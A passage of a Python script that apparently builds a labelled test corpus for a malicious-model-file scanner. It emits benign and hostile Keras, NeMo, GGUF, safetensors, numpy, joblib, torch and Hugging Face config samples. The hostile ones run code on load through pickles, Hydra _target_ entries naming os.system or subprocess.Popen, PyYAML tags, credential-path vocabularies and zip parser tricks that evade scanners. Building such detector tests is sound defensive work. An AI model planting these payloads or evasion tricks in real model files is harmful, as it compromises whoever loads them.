fn_loss = {"loss": {"module": "builtins", "class_name": "function", "config": "sparse_categorical_crossentropy", "registered_name": "function"},
           "optimizer": "adam", "metrics": ["accuracy"]}
emit("keras/function_loss.keras", keras_zip([dense], compile_config=fn_loss), "benign", "Keras 3 compile config with a function loss (module builtins)")
emit("keras/builtins_exec_loss.keras", keras_zip([dense], compile_config={"loss": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}), "malicious", "function named after a Python builtin: older Keras imports builtins.exec (CVE-2025-1550)", severity="critical")
emit("keras/stringlookup_file.keras", keras_zip([klayer("StringLookup", vocabulary="/etc/passwd")]), "malicious", "StringLookup vocabulary read from a path at load (CVE-2025-12058)", severity="high")
emit("keras/textvectorization_remote.keras", keras_zip([klayer("TextVectorization", vocabulary="gs://attacker-bucket/vocab.txt")]), "malicious", "TextVectorization vocabulary fetched through tf.io.gfile", severity="critical")
emit("keras/integerlookup_traversal.keras", keras_zip([klayer("IntegerLookup", vocabulary="../../../../home/user/.aws/credentials")]), "malicious", "IntegerLookup vocabulary path traversal", severity="high")
emit("keras/tfsmlayer.keras", keras_zip([klayer("TFSMLayer", filepath="/tmp/attacker_savedmodel", call_endpoint="serve")]), "malicious", "TFSMLayer loads an external SavedModel", severity="critical")
torch_blob = base64.b64encode(bytes(torch_zip(reduce_p2("os", "system")))).decode()
emit("keras/torch_module_wrapper.keras", keras_zip([klayer("TorchModuleWrapper", module=torch_blob)]), "malicious", "TorchModuleWrapper embeds a torch.save blob (unpickled on load)", severity="critical")
emit("keras/config_only.keras", keras_zip([dense, lam], members=("config.json",)), "malicious", "archive with only config.json: Keras builds the model before it looks for weights", severity="critical")


def tar_gz(members):
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w:gz", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return tb.getvalue()


nemo_ok = b"""target: nemo.collections.asr.models.EncDecCTCModelBPE
nemo_version: 2.1.0
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  d_model: 256
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 128
optim:
  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
"""
weights = bytes(torch_zip(torch_data_pkl()))
emit("nemo/asr_model.nemo", tar_gz([("./model_config.yaml", nemo_ok), ("./model_weights.ckpt", weights)]), "benign", "NeMo archive with framework targets")
emit("nemo/hydra_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"nemo.collections.asr.modules.ConvASRDecoder", b"subprocess.Popen\n  args: [sh, -c, id]")), ("./model_weights.ckpt", weights)]), "malicious", "Hydra _target_ instantiation in a .nemo config", severity="critical")
emit("nemo/hydra_flow_escaped.nemo", tar_gz([("./model_config.yaml", nemo_ok + b'callbacks: [{"_targ\\x65t_": "builtins.exec", "_args_": ["import os"]}]\n'), ("./model_weights.ckpt", weights)]), "malicious", "Hydra target in flow style with an escaped key", severity="critical")
emit("nemo/top_level_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"target: nemo.collections.asr.models.EncDecCTCModelBPE", b"target: runpy.run_path")), ("./model_weights.ckpt", weights)]), "malicious", "NeMo top-level `target` imported by restore_from", severity="critical")
emit("nemo/unknown_target.nemo", tar_gz([("./model_config.yaml", nemo_ok.replace(b"nemo.collections.asr.modules.ConformerEncoder", b"acme_models.encoders.Backdoor")), ("./model_weights.ckpt", weights)]), "malicious", "Hydra target outside the frameworks (imports an unknown package)", severity="high")
def gguf_kv(extra):
    kv = [("general.architecture", 8, gstr("llama"))] + [(k, 8, gstr(v)) for k, v in extra]
    b = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
    for k, t, v in kv:
        b += gstr(k) + struct.pack("<I", t) + v
    b += gstr("w") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
    return b + b"\x00" * ((32 - len(b) % 32) % 32) + b"\x00" * 32


emit("gguf/metadata_hydra.gguf", gguf_kv([("general.config", "model:\n  _target_: subprocess.check_output\n  args: [id]\n")]), "malicious", "Hydra target in GGUF string metadata", severity="critical")
emit("gguf/metadata_text.gguf", gguf_kv([("general.name", "tiny-llama"), ("general.description", "A small model: trained on text.\nLicence: MIT")]), "benign", "GGUF with plain string metadata")
emit("yaml/python_tag.yaml", b"model:\n  name: mlp\n  init: !!python/object/apply:os.system [\"id\"]\n", "malicious", "PyYAML python/object/apply tag", severity="critical")
emit("yaml/unparseable_target.yaml", b"model:\n  _target_: os.system\n\t args: [id\n", "malicious", "config our YAML parser refuses but that names a _target_ (fail closed)", severity="high")
emit("yaml/hparams.yaml", b"model:\n  hidden: 64\n  layers: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.0003\n", "benign", "hyper-parameter YAML with a framework target")

emit("safetensors/metadata_hydra.safetensors", safetensors({"__metadata__": {"format": "pt", "config": json.dumps({"model": {"_target_": "os.system", "_args_": ["id"]}})}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "Hydra _target_ in safetensors __metadata__ (JSON string)", severity="critical")
emit("safetensors/metadata_yaml.safetensors", safetensors({"__metadata__": {"format": "pt", "model_config": "encoder:\n  _target_: pty.spawn\n  argv: /bin/sh\n"}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "Hydra _target_ in safetensors __metadata__ (YAML string)", severity="critical")
emit("safetensors/metadata_config.safetensors", safetensors({"__metadata__": {"format": "pt", "config": json.dumps({"encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "d_model": 256}})}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "benign", "safetensors metadata carrying a framework config")

bert = {"architectures": ["BertForMaskedLM"], "model_type": "bert", "hidden_size": 768, "num_attention_heads": 12, "num_hidden_layers": 12, "vocab_size": 30522, "torch_dtype": "float32", "transformers_version": "4.46.0", "attn_implementation": "sdpa"}
emit("hf/bert/config.json", json.dumps(bert, indent=2).encode(), "benign", "transformers config.json")
emit("hf/bert/tokenizer_config.json", json.dumps({"tokenizer_class": "BertTokenizer", "do_lower_case": True, "model_max_length": 512}).encode(), "benign", "transformers tokenizer_config.json")
emit("hf/remote_auto_map/config.json", json.dumps({**bert, "auto_map": {"AutoConfig": "attacker/payload--configuration_evil.EvilConfig", "AutoModel": "attacker/payload--modeling_evil.EvilModel"}}).encode(), "malicious", "auto_map pointing at another repository's code", severity="critical")
emit("hf/local_auto_map/config.json", json.dumps({**bert, "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}).encode(), "malicious", "auto_map: the repository's own Python runs with trust_remote_code", severity="high")
emit("hf/custom_pipeline/config.json", json.dumps({**bert, "custom_pipelines": {"text-classification": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModelForSequenceClassification"]}}}).encode(), "malicious", "custom_pipelines implementation code", severity="high")
emit("hf/hub_kernel/config.json", json.dumps({**bert, "_attn_implementation": "attacker/flash-attn-kernel"}).encode(), "malicious", "attn_implementation names a Hub kernel repository (compiled code)", severity="critical")
sd_index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"], "scheduler": ["diffusers", "PNDMScheduler"], "safety_checker": [None, None]}
emit("hf/diffusers/model_index.json", json.dumps(sd_index).encode(), "benign", "diffusers model_index.json")
emit("hf/diffusers_custom/model_index.json", json.dumps({**sd_index, "unet": ["unet_backdoor", "BackdoorUNet"]}).encode(), "malicious", "diffusers component from a module in the repository", severity="high")
emit("hf/tokenizer_remote/tokenizer_config.json", json.dumps({"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["attacker/tok--tokenization_evil.EvilTokenizer", None]}}).encode(), "malicious", "tokenizer auto_map to another repository", severity="critical")


# ---- 2. archive parser differentials ----
def raw_zip(entries):
    """A stored zip with names and extra fields written byte for byte:
    entries are (name bytes, data, central extra, flags)."""
    out = bytearray(); central = bytearray()
    for name, data, extra, flags in entries:
        crc = zlib.crc32(data)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, crc, len(data), len(data), len(name), 0) + name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x21, crc, len(data), len(data), len(name), len(extra), 0, 0, 0, 0, off) + name + extra
    cd_off = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_off, 0)
    return bytes(out)


def unicode_path(raw_name, new_name):
    body = b"\x01" + struct.pack("<I", zlib.crc32(raw_name)) + new_name
    return struct.pack("<HH", 0x7075, len(body)) + body


evil_obj_npy = npy("|O", (1,), reduce_p2("os", "system"))
torch_parts = [(b"archive/byteorder", b"little", b"", 0), (b"archive/data/0", struct.pack("<4f", 1, 2, 3, 4), b"", 0), (b"archive/version", b"3\n", b"", 0)]
emit("zip/nul_name.pt", raw_zip([(b"archive/data.pkl", reduce_p2("os", "system"), b"", 0)] + torch_parts + [(b"archive/data.pkl\x00.bak", torch_data_pkl(), b"", 0)]), "malicious",
     "NUL in a member name: Python's zipfile cuts it and reads the benign copy last (PyTorch loads the first)", severity="critical")
emit("zip/unicode_path_storage.pt", raw_zip([(b"archive/data.pkl", torch_data_pkl(), b"", 0)] + torch_parts + [(b"archive/data/1", reduce_p2("os", "system"), unicode_path(b"archive/data/1", b"archive/data.pkl"), 0)]), "malicious",
     "Unicode Path extra field renames a 'storage' to data.pkl for Python 3.12+ zipfile readers", severity="critical")
emit("zip/unicode_path_npz.npz", raw_zip([(b"weights.npy", good_npy, b"", 0), (b"notes.txt", evil_obj_npy, unicode_path(b"notes.txt", b"weights.npy"), 0)]), "malicious",
     "npz member renamed by a Unicode Path extra field (numpy on Python 3.12+ loads it)", severity="critical")
emit("zip/duplicate_last_wins.npz", raw_zip([(b"w.npy", good_npy, b"", 0), (b"w.npy", evil_obj_npy, b"", 0)]), "malicious",
     "duplicate npz member: zipfile (numpy) takes the last, a first-match reader the benign one", severity="critical")
emit("zip/data_pkl_only.pt", raw_zip([(b"archive/data.pkl", reduce_p2("os", "system"), b"", 0)]), "malicious", "torch archive holding only data.pkl (no version or storages)", severity="critical")


# ---- 3. pickles that do not announce themselves ----
noproto = sglob("posix", "system") + call1(sbu("id")) + STOP
emit("pickle/no_proto.pkl", noproto, "malicious", "protocol 4 body without a PROTO opcode", severity="critical")
framed = b"\x95" + struct.pack("<Q", len(noproto)) + noproto
emit("pickle/frame_first.bin", framed, "malicious", "FRAME first, no PROTO", severity="critical")
emit("pickle/second_pickle_no_proto.pkl", pickle.dumps({"ok": 1}, protocol=4) + noproto, "malicious", "second pickle in the stream without PROTO", severity="critical")
evil_p0 = glob("os", "system") + b"(" + string0("id") + b"tR."
legacy_p0 = magic + evil_p0 + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
emit("torch/legacy_protocol_pickle_evil.bin", legacy_p0, "malicious", "legacy torch: the protocol-version pickle (2nd of 5) is a protocol 0 call", severity="critical")
legacy_sys = magic + proto(2) + b"M\xe9\x03." + noproto + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
emit("torch/legacy_sysinfo_no_proto.bin", legacy_sys, "malicious", "legacy torch: sys_info pickle without PROTO", severity="critical")
# raw storages after the fifth pickle may look like anything, even a GLOBAL
legacy_noise = magic + proto(2) + b"M\xe9\x03." + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 99) + b"cfoo\nbar\n" + b"\x00" * 387
emit("torch/legacy_storage_noise.bin", legacy_noise, "benign", "legacy torch whose raw storage bytes parse as a GLOBAL")


# ---- 4. lies told with allowlisted parts ----
def npy_raw(header_literal, data):
    h = header_literal + " " * ((64 - (10 + len(header_literal) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode("latin-1") + data


emit("numpy/object_escaped.npy", npy_raw("{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype spelled '\\x4f'", severity="critical")
emit("numpy/object_concat.npy", npy_raw("{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype by implicit string concatenation", severity="critical")
emit("numpy/object_word.npy", npy_raw("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "object dtype spelled 'object'", severity="critical")
emit("numpy/object_comma.npy", npy_raw("{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }", reduce_p2("os", "system")), "malicious", "structured dtype string with an object field", severity="critical")
emit("numpy/object_last_key.npy", npy_raw("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", reduce_p2("os", "system")), "malicious", "descr written twice: Python keeps the last (object)", severity="critical")
rec = struct.pack("<di", 1.5, 2) * 3
emit("numpy/structured_field_O.npy", npy_raw("{'descr': [('O', '<f8'), ('x', '<i4')], 'fortran_order': False, 'shape': (3,), }", rec), "benign", "structured dtype with a field named O")
emit("numpy/structured_field_O.npz", bytes(zip_bytes([("a.npy", npy_raw("{'descr': [('O', '<f8'), ('x', '<i4')], 'fortran_order': False, 'shape': (3,), }", rec))], zipfile.ZIP_DEFLATED)), "benign", "np.savez_compressed of a structured dtype with a field named O")
emit("numpy/shape_lies.npy", npy_raw("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000,), }", b"\x00" * 16), "malicious", "npy shape claims more data than the file holds")
hdr = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
emit("safetensors/header_past_end.safetensors", struct.pack("<Q", 4096) + hdr + b"\x00" * 8, "malicious", "safetensors header length larger than the file", severity="high")
emit("safetensors/dtype_spelling.safetensors", safetensors({"w": {"dtype": "float32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8), "malicious", "safetensors dtype spelled as a NumPy name")
nd = proto(2) + glob("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}(" + binu("filename") + binu("/tmp/attacker/evil.npy") + binu("subclass") + glob("numpy", "ndarray") + b"ub."
# joblib reads an array's data with pickle.load when dtype.hasobject, which the dtype's pickled
# flags decide: a void dtype carrying the object flag hides a pickle where raw bytes would be
vdt = glob("numpy", "dtype") + b"(" + binu("V8") + b"\x89\x88tR" + b"(K\x03" + binu("|") + b"NNNK\x08K\x01K\x3ftb"
vstate = b"}(" + binu("subclass") + glob("numpy", "ndarray") + binu("shape") + b"K\x01\x85" + binu("order") + binu("C") + binu("dtype") + vdt + binu("allow_mmap") + b"\x89u"
hasobj = proto(4) + b"}(" + binu("coef") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + vstate + b"b" + reduce_p2("os", "system") + b"u."
emit("joblib/void_dtype_hasobject.joblib", hasobj, "malicious", "joblib array whose void dtype carries the object flag: its data is a pickle", severity="critical")
emit("joblib/legacy_ndarraywrapper.pkl", nd, "malicious", "legacy joblib NDArrayWrapper: np.load(allow_pickle=True) of a path the pickle names", severity="critical")


# ---- 5. severity: code execution through lesser-known entry points ----
for fname, mod, name, arg in [
    ("torch_benchmark_timer.pkl", "torch.utils.benchmark.utils.timer", "Timer", "__import__('os').system('id')"),
    ("torch_bottleneck.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", "import os"),
    ("torch_testing_shell.pkl", "torch.testing._internal.common_utils", "shell", "id"),
    ("profile_runctx.pkl", "profile", "runctx", "import os"),
    ("sklearn_run_script.pkl", "sklearn.utils._testing", "assert_run_python_script_without_output", "import os"),
    ("test_support_script.pkl", "test.support.script_helper", "assert_python_ok", "-c"),
    ("numpy_exec_command.pkl", "numpy.distutils.exec_command", "exec_command", "id"),
    ("transformers_dynamic.pkl", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", "attacker/repo--m.C"),
    ("line_profiler_runctx.pkl", "line_profiler", "LineProfiler.runctx", "import os"),
    ("osx_support_read_output.pkl", "_osx_support", "_read_output", "id"),
    ("idlelib_run.pkl", "idlelib.run", "exec", "import os"),
    ("scipy_weave.pkl", "scipy.weave", "inline", "system(\"id\");"),
]:
    emit(f"severity/{fname}", reduce_p4(mod, name, arg), "malicious", f"code execution through {mod}.{name}", severity="critical")


# ---- benign files as the real libraries write them (emulated here; the real libraries write
# ---- theirs in scripts/model-corpus-real.py) ----
def joblib_framed():
    """joblib.dump(protocol 4): PROTO, a FRAME ending at the wrapper's BUILD, the array bytes
    outside any frame, then a new FRAME."""
    dtype = glob("numpy", "dtype") + b"(" + binu("f8") + b"\x89\x88tR" + b"(K\x03" + binu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    state = b"}(" + binu("subclass") + glob("numpy", "ndarray") + binu("shape") + b"K\x04\x85" + binu("order") + binu("C") + binu("dtype") + dtype + binu("allow_mmap") + b"\x88" + binu("numpy_array_alignment_bytes") + b"K\x10u"
    body1 = b"}(" + binu("a") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    head = proto(4) + b"\x95" + struct.pack("<Q", len(body1)) + body1
    pad = 16 - ((len(head) + 1) % 16)
    data = bytes([pad]) + b"\xff" * pad + struct.pack("<4d", 1, 2, 3, 4)
    body2 = binu("n") + b"K\x07" + b"u."
    return head + data + b"\x95" + struct.pack("<Q", len(body2)) + body2


# metadata that disagrees with the bytes: data.pkl's storage sizes and tensor views
emit("torch/storage_size_lies.pt", bytes(zip_bytes([("archive/data.pkl", torch_data_pkl(numel=64)), ("archive/byteorder", b"little"), ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)), ("archive/version", b"3\n")])), "malicious", "data.pkl claims 64 floats, the storage record holds 4", severity="high")
emit("torch/storage_missing.pt", bytes(zip_bytes([("archive/data.pkl", torch_data_pkl(key="7")), ("archive/byteorder", b"little"), ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)), ("archive/version", b"3\n")])), "malicious", "data.pkl names a storage record the archive does not hold", severity="high")
oob = torch_data_pkl().replace(b"K\x00" + b"K\x02K\x02\x86" + b"K\x02K\x01\x86", b"K\x00" + b"K\x02K\x02\x86" + b"K\x40K\x01\x86")
emit("torch/view_out_of_bounds.pt", bytes(torch_zip(oob)), "malicious", "tensor stride reaches past its storage (out-of-bounds read)", severity="high")
emit("joblib/framed_arrays.joblib", joblib_framed(), "benign", "joblib protocol 4: array bytes between frames")
zstorage = b"\x78\x9c" + b"\x01\x02\x03\x04" * 3 + b"\x00\x00"  # 16 bytes: 4 float32
emit("torch/zlib_like_storage.pt", bytes(zip_bytes([("archive/data.pkl", torch_data_pkl()), ("archive/byteorder", b"little"), ("archive/data/0", zstorage), ("archive/version", b"3\n")])), "benign", "tensor bytes that start with a zlib header (78 9c)")

with open(os.path.join(OUT, "MANIFEST.json"), "w") as f:
    json.dump(MANIFEST, f, indent=1)
print(f"{len(MANIFEST)} files written to {OUT} "
      f"({sum(m['expect'] == 'malicious' for m in MANIFEST)} malicious, {sum(m['expect'] == 'benign' for m in MANIFEST)} benign)")
